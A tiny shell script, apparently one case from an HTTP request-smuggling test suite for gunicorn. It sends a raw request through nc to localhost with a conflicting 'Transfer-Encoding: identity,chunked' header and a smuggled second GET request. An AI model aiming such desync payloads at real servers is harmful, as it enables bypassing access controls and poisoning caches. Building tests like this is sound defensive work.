#!/bin/sh
# desync/te-unknown-coding/smuggled-request via stream.concatenate against gunicorn
printf 'OST / HTTP/1.1\r\nHost:127.0.0.1:39237\r\nTransfer-Encoding:identity,chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.0\r\n\r\n' | nc 127.0.0.1 ${PORT:-39237}
